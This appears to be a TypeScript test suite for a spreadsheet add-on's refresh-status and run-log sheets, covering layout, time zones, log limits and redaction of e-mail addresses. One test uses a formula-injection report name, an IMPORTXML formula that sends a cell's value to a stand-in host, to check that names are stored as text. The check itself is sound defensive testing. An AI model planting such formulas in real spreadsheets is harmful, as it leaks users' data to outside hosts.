import fc from 'fast-check';
import type { SavedReport } from '../../../src/reports/saved-report';
import { updateLogs } from '../../../src/reports/status/logs';
import { listSavedReports } from '../../../src/reports/status/report-list';
import {
  buildLogColumns,
  buildLogTable,
  type LoggedRun,
  MOST_RUNS,
} from '../../../src/reports/status/run-log';
import { buildStatusTable } from '../../../src/reports/status/status-sheet';
import { type SheetCell, toSheetCell } from '../../../src/table/sheet-cell';
import { VERSION } from '../../../src/version';
import { formatTime } from '../../fakes/format-time';
import { ANA } from '../file';
import { createReports, HOUR, START } from '../scheduled-file';

const STATUS = 'Refresh status';
const LOG = 'Run log';
const RUN = buildLogColumns().findIndex(({ field }) => field === 'run');
const TIME = { timeZone: 'Europe/Berlin', formatTime };
/** 15 September 2026, 14:40 in Berlin. */
const START_SERIAL = 46_280 + 14 / 24 + 40 / 1_440;

/** Reports that have run in a check of Ana. */
function checkedReports(...names: readonly string[]) {
  const all = createReports(...names);
  all.file.slowRequests(1_000);
  all.ana.runHourlyCheck();
  const { sheets } = all.file;
  const column = (title: string, index: number) => sheets.readValues(title).map((row) => row[index] ?? '');
  return { ...all, sheets, column, update: () => updateLogs(all.ana.services) };
}

it('the logs of a file are two sheets, each with a line above the headers that describes it', () => {
  const { sheets, column } = checkedReports('Revenue', 'Retention');
  expect(sheets.sheets.map(({ title }) => title)).toEqual(['Sheet1', STATUS, LOG, 'Revenue', 'Retention']);
  expect(column(STATUS, 0)).toEqual([
    'Refresh status · times in Europe/Berlin',
    'Report',
    'Revenue',
    'Retention',
  ]);
  expect(column(LOG, 0)[0]).toBe('Run log · the last 500 runs, newest first · times in Europe/Berlin');
  expect(column(LOG, 3)).toEqual(['', 'Report', 'Retention', 'Revenue']);
});

it('the logs of a file change no cell when they are written again, and only cells that differ', () => {
  const { ana, ids, file, sheets, update } = checkedReports('Revenue', 'Retention');
  const before = [sheets.batches.length, sheets.describeTabs()];
  for (let nth = 0; nth < 10; nth++) {
    file.clock.advance(HOUR / 10);
    update();
  }
  expect([sheets.batches.length, sheets.describeTabs()]).toEqual(before);
  const { coverage, ...record } = ana.services.records.readRunRecord(ids[0]!);
  ana.services.records.writeRunRecord(ids[0]!, { ...record, coverage: { ...coverage!, rows: 121 } });
  update();
  expect(JSON.stringify(sheets.batches.at(-1)).match(/numberValue|stringValue/g)).toHaveLength(1);
});

it('the logs of a file contain names as texts, even if they look like formulas', () => {
  const name = '=IMPORTXML("https://x.test/"&A1,"//a")';
  const { sheets, column } = checkedReports(name, '+1');
  expect([column(STATUS, 0).slice(2), column(LOG, 3).slice(2)]).toEqual([
    [name, '+1'],
    ['+1', name],
  ]);
  expect(JSON.stringify(sheets.batches)).not.toContain('formulaValue');
});

/** The row of a report that was refreshed an hour ago and was checked two hours ago, in the zone. */
function rowOf(change: Partial<SavedReport> = {}, timeZone = TIME.timeZone) {
  const { ana } = checkedReports('Revenue');
  const [report] = listSavedReports(ana.services);
  const lastRun = { ...report!.lastRun!, endedAt: START - HOUR };
  const times = { lastRun, nextRun: START + HOUR, lastChecked: START - 2 * HOUR };
  const time = { now: START, timeZone, formatTime };
  const { columns, rows } = buildStatusTable([{ ...report!, id: 'r1', ...times, ...change }], time);
  return Object.fromEntries(columns.map(({ label }, index) => [label, rows[0]![index]]));
}

it('a row of the status sheet shows the state of a report, with times in the zone of the spreadsheet', () => {
  expect(rowOf()).toEqual({
    Report: 'Revenue',
    State: 'Up to date',
    Refreshes: 'Every day, when complete',
    Owner: ANA,
    'Newest complete day': '2026-09-14',
    'Newest day in the sheet': '2026-09-14',
    'Last run': expect.closeTo(START_SERIAL - 1 / 24, 7),
    By: ANA,
    How: 'By schedule',
    Rows: 7,
    'Next run': expect.closeTo(START_SERIAL + 1 / 24, 7),
    'Last checked': expect.closeTo(START_SERIAL - 2 / 24, 7),
    Problem: '',
    Id: 'r1',
  });
  expect(rowOf({}, 'America/New_York')['Last run']).toBeCloseTo(START_SERIAL - 7 / 24, 7);
});

it.each([
  ['26 hours', 26 * HOUR, ''],
  [
    'a little more',
    26 * HOUR + 1,
    `Google has stopped the hourly check of ${ANA}. Since the time in “Last checked”, this report has not been refreshed. The owner must choose Ad Reports ▸ Open, or you can take over the report.`,
  ],
])(
  'a row of the status sheet says that the hourly check has stopped: last run %s ago',
  (_, silence, sentence) => {
    expect(rowOf({ lastChecked: START - silence })['Problem']).toBe(sentence);
  },
);

/** A good run by schedule; the `nth` began that many hours before `START`. */
function loggedRun(nth: number, change: Partial<LoggedRun> = {}): LoggedRun {
  const startedAt = START - nth * HOUR;
  const times = { startedAt, endedAt: startedAt + 12_000 };
  const days = { from: '2026-11-17', to: '2026-11-19' };
  const counts = { calls: 3, rowsInserted: 10, rowsChanged: 4, rowsDeleted: 0, restated: 6 };
  const log = { runId: `run${nth}`, ...days, ...counts, notices: '' };
  const run = { reportName: 'Revenue', by: ANA, how: 'by schedule', result: 'done' } as const;
  return { ...run, ...times, sentence: '', doNext: '', log, ...change };
}

/** The rows of the log as a sheet holds them, after these runs are added to `existing` rows. */
function logged(existing: readonly (readonly SheetCell[])[], runs: readonly LoggedRun[]): SheetCell[][] {
  const { columns, rows } = buildLogTable(existing, runs, TIME);
  return rows.map((row) => columns.map(({ type }, index) => toSheetCell(row[index]!, type)));
}

const idsOf = (rows: readonly (readonly SheetCell[])[]) => rows.map((row) => row[RUN]);

it('the run log shows the time, the days, the changed rows and the result of a run', () => {
  const run = loggedRun(1, { result: 'failed', sentence: 'The service refused the report key.' });
  const { columns, rows } = buildLogTable([], [run], TIME);
  expect(Object.fromEntries(columns.map(({ label }, index) => [label, rows[0]![index]]))).toEqual({
    Started: expect.closeTo(START_SERIAL - 1 / 24, 7),
    Ended: expect.closeTo(START_SERIAL - 1 / 24 + 12 / 86_400, 7),
    Seconds: 12,
    Report: 'Revenue',
    How: 'By schedule',
    From: '2026-11-17',
    To: '2026-11-19',
    Calls: 3,
    'Rows inserted': 10,
    'Rows changed': 4,
    'Rows deleted': 0,
    Restated: 6,
    Result: 'Failed',
    Note: 'The service refused the report key.',
    Version: VERSION,
    Run: 'run1',
  });
});

it('the run log contains 500 runs: the oldest are removed, and rows of the user do not count', () => {
  const existing = logged(
    [],
    Array.from({ length: MOST_RUNS }, (_, nth) => loggedRun(nth + 2)),
  );
  const note = buildLogColumns().map((_, column) => (column === 3 ? 'Closed October here' : ''));
  existing.splice(1, 0, note);
  const more = logged(existing, [loggedRun(1)]);
  expect([more.length, idsOf(more)[0], more.at(-1)]).toEqual([MOST_RUNS + 1, 'run1', note]);
  expect(idsOf(more)).not.toContain('run501');
});

it('the run log contains no e-mail address and no long text', () => {
  const sentence = `ana.b+c@mail.example.com is running this report. ${'x'.repeat(1000)}`;
  const [row] = logged([], [loggedRun(1, { reportName: 'Revenue (ana@example.com)', sentence })]);
  expect(row![3]).toBe('Revenue (somebody)');
  expect(row![13]).toMatch(/^somebody is running this report\. x+…$/);
  expect(String(row![13]).length).toBeLessThanOrEqual(300);
});

it('the run log has the same rows, newest first, if runs are added one by one, all at once or again', () => {
  const ids = fc.uniqueArray(fc.integer({ min: 1, max: 999 }), { maxLength: 20 });
  fc.assert(
    fc.property(ids, fc.nat(20), (hours, cut) => {
      const runs = hours.map((nth) => loggedRun(nth));
      const parts = logged(logged([], runs.slice(0, cut)), runs.slice(cut));
      expect(idsOf(parts)).toEqual([...hours].sort((a, b) => a - b).map((nth) => `run${nth}`));
      expect(parts).toEqual(logged([], runs));
      expect(logged(parts, runs)).toEqual(parts);
    }),
  );
});
